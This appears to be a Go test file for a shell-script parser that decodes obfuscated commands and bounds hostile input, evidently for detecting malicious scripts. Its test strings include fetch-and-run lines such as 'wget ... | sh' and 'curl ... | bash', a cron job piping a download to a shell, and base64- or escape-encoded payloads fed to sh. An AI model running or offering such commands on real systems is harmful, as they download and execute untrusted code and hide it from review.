package shell

import (
	"fmt"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
)

func TestDecoded(t *testing.T) {
	for _, c := range []struct {
		text string
		want []string // how:text
	}{
		{"echo d2hvYW1p|base64 -d", []string{"base64:whoami"}},
		{"echo ZDJkbGRDQjQ= | base64 -d | base64 -d", []string{"base64:d2dldCB4", "base64:wget x"}},
		{`echo -e "\x6F\x6B"`, []string{"echo:ok"}},
		{`/bin/busybox echo -e '\147\141\171\146\147\164'`, []string{"echo:gayfgt"}},
		{`echo -ne "\x7f\x45\x4c\x46" >> .s`, []string{"echo:\x7fELF"}},
		{`printf '\x77\x67et %s' x`, []string{"printf:wget x"}},
		{`$'\x77\x67et' $'a\n'`, []string{"escape:wget"}},
		{"echo 77676574|xxd -r -p", []string{"hex:wget"}},
		{"rev<<<tegw", []string{"rev:wget"}},
		{"tr a-z n-za-m<<<jtrg", []string{"tr:wget"}},
		{`python -c "import base64;print(base64.b64decode('d2dldCB4'))"`, []string{"base64:wget x"}},

		// Nothing is decoded, or it cannot be known.
		{"echo wget | base64", nil},
		{"base64 -d /etc/motd", nil},
		{"echo $X | base64 -d", nil},
		{`echo -e "a\tb\n"`, nil},
		{`echo "\x77"`, nil},
		{"printf '%s\\n' x", nil},
		{"openssl enc -aes-256-cbc -d -a <<< d2dldA==", nil},
		{"xxd /bin/ls", nil},
		{"tr -s a <<< x", nil},
		{"base64 -d <<< '!!!'", nil},
	} {
		s := NewParser(Limits{}).Parse(c.text)
		var got []string
		for _, l := range s.Decoded {
			got = append(got, l.How+":"+l.Text)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%q: got %q, want %q", c.text, got, c.want)
		}
	}
}

// Decoded bytes that are no text are kept and not parsed.
func TestBinaryLayer(t *testing.T) {
	s := NewParser(Limits{}).Parse("echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d | sh")
	if len(s.Decoded) != 1 || !strings.HasPrefix(s.Decoded[0].Text, "\x7fELF") || len(s.Commands) != 3 {
		t.Errorf("got %+v", s)
	}
}

func TestSpans(t *testing.T) {
	text := "cd /tmp;  wget -O - http://x | sh; echo `id`; sh -c 'a; b' >o; echo aWQ=|base64 -d|sh"
	var got []string
	for _, c := range NewParser(Limits{}).Parse(text).Commands {
		got = append(got, c.Line+" <- "+text[c.Start:c.End])
	}
	want := []string{
		"cd /tmp <- cd /tmp", "wget -O - http://x <- wget -O - http://x", "sh <- sh", "echo `id` <- echo `id`", "id <- id",
		"sh -c a; b <- sh -c 'a; b' >o", "a <- sh -c 'a; b' >o", "b <- sh -c 'a; b' >o",
		"echo aWQ= <- echo aWQ=", "base64 -d <- base64 -d", "sh <- sh", "id <- sh",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestLimits(t *testing.T) {
	nest := "id"
	for range 12 {
		nest = "echo $(" + nest + ")"
	}
	for _, c := range []struct {
		name, text string
		limits     Limits
		commands   int
		bounded    bool
	}{
		{"as many commands as allowed", strings.Repeat("id;", 5), Limits{Commands: 5}, 5, false},
		{"too many commands", strings.Repeat("id;", 6), Limits{Commands: 5}, 5, true},
		{"fewer commands", strings.Repeat("id;", 4), Limits{Commands: 5}, 4, false},
		{"substitutions too deep", nest, Limits{}, 9, true},
		{"less deep", nest, Limits{Depth: 12}, 13, false},
		{"layers too deep", "sh -c \"sh -c 'id'\"", Limits{Depth: 1}, 2, true},
		{"layers that deep", "sh -c \"sh -c 'id'\"", Limits{Depth: 2}, 3, false},
		{"too much text", "echo aWQ7aWQ7aWQ7aWQ7aWQ7aWQ7aWQ= | base64 -d | sh", Limits{Bytes: 40}, 3, true},
		{"a variable that doubles", "a=xxxxxxxx;" + strings.Repeat("a=$a$a;", 40) + "echo $a", Limits{}, 42, false},
		{"padding does not hide what follows", "echo " + strings.Repeat("a ", 100000) + "; wget x", Limits{}, 2, true},
	} {
		s := NewParser(c.limits).Parse(c.text)
		if len(s.Commands) != c.commands || s.Bounded != c.bounded {
			t.Errorf("%s: %d commands, bounded %v; want %d, %v", c.name, len(s.Commands), s.Bounded, c.commands, c.bounded)
		}
	}
}

// Any text of a megabyte has a result within the limits.
func TestHostile(t *testing.T) {
	p := NewParser(Limits{})
	p.panics = true
	for _, unit := range hostileUnits {
		for _, size := range []int{4 << 10, 1 << 20} {
			text := hostile(unit, size)
			s := p.Parse(text)
			if len(s.Commands) > 4096 || len(s.Decoded) > maxLayers {
				t.Errorf("%q: %d commands, %d layers", unit, len(s.Commands), len(s.Decoded))
			}
			size := 0
			for i := range s.Commands {
				c := &s.Commands[i]
				if c.Start < 0 || c.Start > c.End || c.End > len(text) {
					t.Fatalf("%q: span %d:%d of %d", unit, c.Start, c.End, len(text))
				}
				size += len(c.Line) + 16*(len(c.PipesTo)+len(c.PipedFrom)+len(c.Reads)+len(c.Writes)+len(c.URLs))
			}
			if size > 32<<20 {
				t.Errorf("%q: %d bytes in lines and lists", unit, size)
			}
		}
	}
}

// A parser gives the same script whatever it parsed before.
func TestReuse(t *testing.T) {
	texts := []string{"A=wget; $A x", "$A x", "echo id > f; sh f", "sh f", "IFS=,; $x", "a b", hostile("a=b ", 1<<20), "id"}
	p := NewParser(Limits{})
	for _, text := range texts {
		want := NewParser(Limits{}).Parse(text)
		if got := p.Parse(text); !reflect.DeepEqual(got, want) {
			t.Errorf("%.50q: got %+v, want %+v", text, got, want)
		}
		if got := p.View(text); fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("%.50q: viewed %+v, want %+v", text, got, want)
		}
	}
}

// Scripts do not change when their parser parses the next.
func TestScriptsStay(t *testing.T) {
	p := NewParser(Limits{})
	first := p.Parse("A=b sudo wget -qO- http://x < in > out | sh")
	want := NewParser(Limits{}).Parse("A=b sudo wget -qO- http://x < in > out | sh")
	var wait sync.WaitGroup
	for range 4 {
		wait.Go(func() {
			for i := range first.Commands {
				_ = show(&first.Commands[i])
			}
		})
	}
	for range 100 {
		p.Parse("X=y env Z=q curl -so- ftp://y <<< aaaa >> bbbb | bash -x | id")
	}
	wait.Wait()
	if !reflect.DeepEqual(first, want) {
		t.Errorf("got %+v, want %+v", first, want)
	}
}

func TestCronCommand(t *testing.T) {
	for line, want := range map[string]string{
		"*/5 * * * * wget x | sh\n": "wget x | sh",
		"0\t1 * * 1-5 /tmp/x":       "/tmp/x",
		"@reboot  id":               "id",
		"# * * * * * x":             "",
		"SHELL=/bin/sh":             "",
		"* * * *":                   "",
		"":                          "",
	} {
		if got := cronCommand(line); got != want {
			t.Errorf("%q: got %q, want %q", line, got, want)
		}
	}
}

// Mixtures of hostile texts find what repetition of a single one does not. A text that
// stalls makes this test hang.
func TestHostileMixes(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	p := NewParser(Limits{})
	p.panics = true
	for range 60 {
		var mix strings.Builder
		for range 1 + rng.IntN(4) {
			mix.WriteString(strings.Repeat(hostileUnits[rng.IntN(len(hostileUnits))], 1<<rng.IntN(8)))
		}
		text := hostile(mix.String(), 128<<10)
		if rng.IntN(3) == 0 {
			text = "sh -c '" + strings.ReplaceAll(text, "'", "") + "'"
		}
		for i, c := range p.Parse(text).Commands {
			if c.Start < 0 || c.Start > c.End || c.End > len(text) {
				t.Fatalf("%.80q: command %d has span %d:%d of %d", text, i, c.Start, c.End, len(text))
			}
		}
	}
	p.Parse(hostile("cat <<A|sh\n"+strings.Repeat("${a/", 15)+"$((1))", 256000)) // took 6 s before expansions in expansions were bounded
}
